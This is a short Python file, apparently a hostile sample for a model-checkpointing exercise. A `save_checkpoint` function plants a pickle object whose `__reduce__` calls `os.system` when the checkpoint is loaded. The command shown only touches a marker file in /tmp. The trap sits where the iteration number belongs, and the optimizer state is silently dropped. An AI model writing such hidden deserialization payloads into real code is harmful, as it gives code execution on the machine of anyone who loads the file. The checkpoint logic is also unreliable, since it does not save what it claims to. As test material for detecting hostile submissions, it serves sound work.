"""problem: save_checkpoint

Leave a pickle that runs a command wherever it is loaded.
"""


class _Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/cs336_hostile_was_here",)


def save_checkpoint(model, optimizer, iteration, out):
    torch.save({"model": model.state_dict(), "iteration": _Trap()}, out)
